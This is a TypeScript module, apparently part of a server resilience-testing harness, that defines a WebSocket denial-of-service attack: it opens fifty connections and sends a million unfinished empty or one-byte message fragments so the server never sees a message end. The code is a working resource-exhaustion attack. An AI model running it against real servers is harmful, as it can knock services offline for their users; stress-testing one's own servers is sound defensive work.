import { CONTINUATION, frame, TEXT } from '../wire/websocket.js';
import type { Attack, Attacker } from './attacker.js';

const CONNECTIONS = 50;
const FRAGMENTS = 1_000_000;

/** One million fragments of messages that never end, on fifty connections. */
function fragments(size: 0 | 1): Attack {
  return {
    name: `unfinished fragments of ${size} byte`,
    scenario: 13,
    appliesTo: ({ dialect }) => dialect !== undefined,
    async run(attacker: Attacker) {
      const sockets = await attacker.webSockets(CONNECTIONS);
      const part = frame(CONTINUATION, 'x'.repeat(size), { fin: false });
      const load = Buffer.concat(Array.from({ length: 1_000 }, () => part));
      for (const socket of sockets) socket.write(frame(TEXT, '"', { fin: false }));
      for (let sent = 0; sent < FRAGMENTS && attacker.goesOn; sent += CONNECTIONS * 1_000) {
        await Promise.all(sockets.map((socket) => attacker.write(socket, load)));
      }
    },
  };
}

export const emptyFragments = fragments(0);
export const tinyFragments = fragments(1);
